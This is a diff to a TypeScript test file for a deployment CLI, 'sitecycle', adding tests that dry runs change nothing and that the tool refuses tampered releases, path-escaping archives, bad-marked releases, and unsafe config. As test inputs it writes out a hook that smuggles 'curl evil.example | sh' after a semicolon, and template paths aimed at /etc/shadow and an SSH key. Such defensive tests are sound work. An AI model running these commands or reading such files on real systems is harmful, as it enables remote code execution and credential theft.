@@ -5,7 +5,7 @@
  * the journal gets no line).
  */
 import { execFile } from 'node:child_process'
-import { copyFile, cp, mkdir, readFile, rm, writeFile } from 'node:fs/promises'
+import { copyFile, cp, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
 import { basename, join } from 'node:path'
 import { promisify } from 'node:util'
 import { digestFile, readManifest, writeManifest } from '../../src/releases/manifest.js'
@@ -70,6 +70,32 @@ async function snapshotHost(): Promise<HostSnapshot> {
   }
 }
 
+/** The release users get now (the good deploy at the end moves it on). */
+let live = '1.0.0'
+
+/**
+ * Run the CLI; expect exit `code`, nothing on the host changed (site root, Apache conf dir,
+ * journal) and the live release still served. Returns the run.
+ */
+async function expectNothingChanged(
+  args: string[],
+  code: number,
+  env: Record<string, string | undefined> = {}
+): Promise<CliResult> {
+  const before = await snapshotHost()
+  const r: CliResult = await runCli([...args], { env: { SAMPLE_SECRET_KEY: SECRET, ...env } })
+  expectExit(r, code)
+  // One message, never a stack trace.
+  expect(r.stderr).not.toMatch(/^\s+at .+\(.*:\d+:\d+\)$/m)
+  expect(r.stderr).not.toMatch(/unexpected error/)
+  const after = await snapshotHost()
+  expect(diffTrees(before.root, after.root)).toEqual([])
+  expect(diffTrees(before.apacheConf, after.apacheConf)).toEqual([])
+  expect(after.journal).toBe(before.journal)
+  expect(await httpGet(`${site.url}/__version__`)).toEqual({ status: 200, body: live })
+  return r
+}
+
 /**
  * Run the CLI with bad input; expect exit 2 with one message on stderr, nothing on the host
  * changed, and the live release still served. Returns the message.
@@ -78,19 +104,16 @@ async function expectRefused(
   args: string[],
   env: Record<string, string | undefined> = {}
 ): Promise<string> {
-  const before = await snapshotHost()
-  const r: CliResult = await runCli([...args], { env: { SAMPLE_SECRET_KEY: SECRET, ...env } })
-  expectExit(r, 2)
-  expect(r.stderr).toMatch(/^sitecycle: /)
+  const r = await expectNothingChanged(args, 2, env)
+  // One message, the last thing said (a store's fetch may say what it fetches before it).
+  expect(r.stderr).toMatch(/(?:^|\n)sitecycle: [^\n]*\n?$/)
   // Nothing was started: no step progress, no outcome.
   expect(r.stderr).not.toMatch(/preflight|deploying/)
   expect(r.stdout).toBe('')
-  const after = await snapshotHost()
-  expect(diffTrees(before.root, after.root)).toEqual([])
-  expect(diffTrees(before.apacheConf, after.apacheConf)).toEqual([])
-  expect(after.journal).toBe(before.journal)
-  expect((await httpGet(`${site.url}/__version__`)).body).toBe('1.0.0')
-  return r.stderr.replace(/^sitecycle: /, '').trim()
+  return r.stderr
+    .slice(r.stderr.lastIndexOf('sitecycle: '))
+    .replace(/^sitecycle: /, '')
+    .trim()
 }
 
 /** A release directory holding one archive and a manifest that is right about it (sha256, size). */
@@ -241,6 +264,220 @@ test('a missing secret is refused, naming the variable and the template line', a
   expect(msg).toContain(`${template}:${line}: secret SAMPLE_SECRET_KEY is not set`)
 })
 
+/** A copy of the config beside the good one (so relative paths resolve the same), changed by `edit`. */
+async function configVariant(name: string, edit: (text: string) => string): Promise<string> {
+  const file = join(site.dir, name)
+  await writeFile(file, edit(await readFile(config, 'utf8')))
+  return file
+}
+
+/** The 2.0.0 wheel rewritten with its METADATA saying `Version: 9.9.9`, listed with its right sha256. */
+async function wheelWithOtherMetadataVersion(): Promise<{ dir: string; wheel: string }> {
+  const original = join(releases, '2.0.0')
+  const manifest = await readManifest(join(original, 'manifest.json'))
+  const name = manifest.files.find(f => f.kind === 'wheel')!.name
+  const made = join(work, 'meta-src')
+  await mkdir(made, { recursive: true })
+  await run('/usr/bin/python3', [
+    '-c',
+    `import re, sys, zipfile
+src, dst = sys.argv[1], sys.argv[2]
+with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w', zipfile.ZIP_DEFLATED) as zout:
+    for item in zin.infolist():
+        data = zin.read(item.filename)
+        if item.filename.endswith('.dist-info/METADATA'):
+            data = re.sub(rb'(?m)^Version: .*$', b'Version: 9.9.9', data)
+        zout.writestr(item, data)`,
+    join(original, name),
+    join(made, name)
+  ])
+  const dir = await releaseWithArchive(join(work, 'meta', '2.0.0'), join(made, name), original)
+  return { dir, wheel: join(dir, name) }
+}
+
+describe('deploy --dry-run fails as the deploy would, changing nothing', () => {
+  const dry = (...args: string[]) => ['deploy', 'v1', '-c', config, '--dry-run', ...args]
+
+  test('a tampered release', async () => {
+    const dir = join(work, 'tampered')
+    const msg = await expectRefused(dry('--release', dir, '--version', '2.0.0'))
+    expect(msg).toMatch(/^release file .* does not match its manifest: sha256 is /)
+  })
+
+  test('an archive with an entry escaping its folder', async () => {
+    const dir = join(work, 'evil-wheel')
+    const msg = await expectRefused(dry('--release', dir))
+    expect(msg).toMatch(/^release archive .* is unsafe: entry '\.\.\/evil' has a '\.\.' segment$/)
+  })
+
+  test('a version not in the store, and a store that is not there', async () => {
+    const empty = join(work, 'empty-store')
+    await mkdir(empty, { recursive: true })
+    const real = await expectRefused(
+      ['deploy', 'v1', '-c', config, '--store', empty, '--version', '2.0.0'],
+      {}
+    )
+    expect(await expectRefused(dry('--store', empty, '--version', '2.0.0'))).toBe(real)
+    const missing = join(work, 'no-such-store')
+    const realMissing = await expectRefused([
+      'deploy',
+      'v1',
+      '-c',
+      config,
+      '--store',
+      missing,
+      '--version',
+      '2.0.0'
+    ])
+    expect(await expectRefused(dry('--store', missing, '--version', '2.0.0'))).toBe(realMissing)
+  })
+
+  test('a missing secret', async () => {
+    const msg = await expectRefused(dry('--release', releases, '--version', '2.0.0'), {
+      SAMPLE_SECRET_KEY: undefined
+    })
+    expect(msg).toMatch(/app\.ini\.tmpl:\d+: secret SAMPLE_SECRET_KEY is not set/)
+  })
+
+  test('a good release: every check passes, the plan is printed, exit 0, nothing changed', async () => {
+    const r = await expectNothingChanged(dry('--release', releases, '--version', '2.0.0'), 0)
+    expect(r.stdout).toContain(
+      'dry run: would deploy sitecycle-sample 2.0.0 to site v1 on local (live now: 1.0.0); nothing was changed'
+    )
+    expect(r.stdout).toMatch(
+      /checked: config .*app\.ini\.tmpl renders with secrets SAMPLE_SECRET_KEY/
+    )
+    expect(r.stdout).toMatch(
+      /checked: preflight: Python \d+\.\d+\.\d+, \d+ MiB free, configtest ok/
+    )
+    expect(r.stdout).toMatch(/ 1\. preflight: /)
+    expect(r.stdout).not.toContain(SECRET)
+  })
+})
+
+describe('--dry-run never acts', () => {
+  test('maintenance on --dry-run leaves the site open', async () => {
+    const r = await expectNothingChanged(
+      ['maintenance', 'on', 'v1', '-c', config, '--dry-run', '--retry-after', '60'],
+      0
+    )
+    expect(r.stdout).toContain(
+      `dry run: would freeze site v1: ${site.url} would answer 503 with the maintenance page, Retry-After 60; nothing was changed`
+    )
+  })
+
+  test.each([
+    [['snapshot', 'v1'], 'snapshot'],
+    [['clone', 'v1', 'v3'], 'clone'],
+    [['init', 'v1'], 'init'],
+    [['unlock', 'v1'], 'unlock']
+  ])('%j --dry-run is refused rather than run', async (args, command) => {
+    const msg = await expectRefused([...args, '-c', config, '--dry-run'])
+    expect(msg).toBe(
+      `--dry-run: sitecycle ${command} has no dry run (refused rather than run for real); the commands with one: deploy, rollback, maintenance, restore, sync`
+    )
+  })
+})
+
+describe('checks that need no host come before the host is touched', () => {
+  test("a wheel whose METADATA version is not its manifest's is refused, dry run or not", async () => {
+    const { dir, wheel } = await wheelWithOtherMetadataVersion()
+    const expected = `wheel ${wheel} says in its METADATA it is version 9.9.9, but its file name and ${join(dir, 'manifest.json')} say 2.0.0`
+    expect(await expectRefused(['deploy', 'v1', '-c', config, '--release', dir])).toBe(expected)
+    expect(await expectRefused(['deploy', 'v1', '-c', config, '--release', dir, '--dry-run'])).toBe(
+      expected
+    )
+  })
+
+  test('a hook with a shell character is refused when the config is loaded, naming file and line', async () => {
+    const bad = await configVariant('bad-hook.yml', text =>
+      text.replace(
+        /after_install: .*/,
+        'after_install: ["python -m sitecycle_sample.manage check; curl evil.example | sh"]'
+      )
+    )
+    const line =
+      (await readFile(bad, 'utf8')).split('\n').findIndex(l => l.includes('after_install')) + 1
+    const msg = await expectRefused([
+      'deploy',
+      'v1',
+      '-c',
+      bad,
+      '--release',
+      releases,
+      '--version',
+      '2.0.0'
+    ])
+    expect(msg).toMatch(
+      new RegExp(
+        `^${bad.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:${line}:\\d+: sites\\.v1\\.hooks\\.after_install\\[0\\]: hook ".*" uses the shell character ;`
+      )
+    )
+  })
+
+  test('a secret holding a newline is refused by its name, never its value', async () => {
+    const msg = await expectRefused(
+      ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0'],
+      { SAMPLE_SECRET_KEY: 'line-one\ninjected = yes' }
+    )
+    expect(msg).toMatch(
+      /app\.ini\.tmpl:\d+: secret SAMPLE_SECRET_KEY holds a newline; a value must fit on one line/
+    )
+    expect(msg).not.toMatch(/line-one|injected/)
+  })
+})
+
+describe('the config template is a file of the repository', () => {
+  const KEY_LINE = '-----BEGIN OPENSSH PRIVATE KEY-----'
+
+  test.each([
+    ['an absolute path', '/etc/shadow', 'an absolute path'],
+    ["a '..' escape", 'deploy/../../outside/id_ed25519', "contains '..'"]
+  ])('%s is refused when the config is loaded', async (_what, template, reason) => {
+    const bad = await configVariant(`template-${reason.length}.yml`, text =>
+      text.replace('template: deploy/app.ini.tmpl', `template: ${template}`)
+    )
+    const msg = await expectRefused([
+      'deploy',
+      'v1',
+      '-c',
+      bad,
+      '--release',
+      releases,
+      '--version',
+      '2.0.0'
+    ])
+    expect(msg).toContain(`sites.v1.config.template: got "${template}" (${reason})`)
+  })
+
+  test('a symlink out of the repository is refused without a byte of its target shown', async () => {
+    const outside = join(work, 'outside')
+    await mkdir(outside, { recursive: true })
+    await writeFile(join(outside, 'id_ed25519'), `${KEY_LINE}\nnot-a-real-key\n`)
+    await symlink(join(outside, 'id_ed25519'), join(site.dir, 'deploy', 'linked.tmpl'))
+    const bad = await configVariant('template-link.yml', text =>
+      text.replace('template: deploy/app.ini.tmpl', 'template: deploy/linked.tmpl')
+    )
+    for (const extra of [[], ['--dry-run']]) {
+      const msg = await expectRefused([
+        'deploy',
+        'v1',
+        '-c',
+        bad,
+        '--release',
+        releases,
+        '--version',
+        '2.0.0',
+        ...extra
+      ])
+      expect(msg).toMatch(
+        /^the config template .*linked\.tmpl resolves to .*, outside the repository/
+      )
+      expect(msg).not.toContain(KEY_LINE)
+    }
+  })
+})
+
 test('after all of that a good deploy still goes through', async () => {
   const r = await runCli(
     ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0'],
@@ -250,6 +487,7 @@ test('after all of that a good deploy still goes through', async () => {
   )
   expectExit(r, 0)
   expect((await httpGet(`${site.url}/__version__`)).body).toBe('2.0.0')
+  live = '2.0.0'
   // Only the good deploy wrote to the journal: one start, one end, no failed operation.
   const ops = (await readFile(journalPath, 'utf8'))
     .trim()
@@ -257,4 +495,69 @@ test('after all of that a good deploy still goes through', async () => {
     .map(l => JSON.parse(l) as { op: string; event: string; status?: string })
     .filter(e => e.event === 'end')
   expect(ops.map(e => `${e.op} ${e.status}`)).toEqual(['deploy deployed', 'deploy deployed'])
+})
+
+describe('a release marked bad', () => {
+  test('rollback --dry-run names the release it would go back to and marks nothing', async () => {
+    const r = await expectNothingChanged(['rollback', 'v1', '-c', config, '--dry-run'], 0)
+    expect(r.stdout).toContain(
+      'dry run: would roll back site v1 from 2.0.0 to 1.0.0 (warm in the idle slot), and mark 2.0.0 bad; nothing was changed'
+    )
+    await expect(readFile(join(site.root, 'releases', '2.0.0', 'BAD'))).rejects.toThrow(/ENOENT/)
+  })
+
+  test('is not deployed, nor rolled back to, without --allow-bad; with it, it warns and the mark goes once the deploy succeeded', async () => {
+    const back = await runCli(['rollback', 'v1', '-c', config], {
+      env: { SAMPLE_SECRET_KEY: SECRET }
+    })
+    expectExit(back, 0)
+    live = '1.0.0'
+    const mark = join(site.root, 'releases', '2.0.0', 'BAD')
+    expect(await readFile(mark, 'utf8')).toMatch(/rolled back/)
+    const refusal = `release 2.0.0 is marked bad on site v1 (a rollback left it; ${mark}): `
+    expect(
+      await expectRefused([
+        'deploy',
+        'v1',
+        '-c',
+        config,
+        '--release',
+        releases,
+        '--version',
+        '2.0.0'
+      ])
+    ).toBe(
+      `${refusal}deploy a new version, or pass --allow-bad (the action's allow-bad input) to go ahead anyway`
+    )
+    expect(
+      await expectRefused([
+        'deploy',
+        'v1',
+        '-c',
+        config,
+        '--release',
+        releases,
+        '--version',
+        '2.0.0',
+        '--dry-run'
+      ])
+    ).toMatch(/is marked bad on site v1/)
+    expect(await expectRefused(['rollback', 'v1', '-c', config, '--to', '2.0.0'])).toBe(
+      `${refusal}roll back to another release, or pass --allow-bad (the action's allow-bad input) to go ahead anyway`
+    )
+    const r = await runCli(
+      ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0', '--allow-bad'],
+      { env: { SAMPLE_SECRET_KEY: SECRET } }
+    )
+    expectExit(r, 0)
+    live = '2.0.0'
+    expect(r.stderr).toContain(
+      'deploying 2.0.0 on site v1, although it is marked bad (--allow-bad); the mark is removed only if this deploy succeeds'
+    )
+    expect(r.stderr).toContain(
+      'the bad mark of 2.0.0 was removed: it is live and verified (--allow-bad)'
+    )
+    expect((await httpGet(`${site.url}/__version__`)).body).toBe('2.0.0')
+    await expect(readFile(mark)).rejects.toThrow(/ENOENT/)
+  })
 })
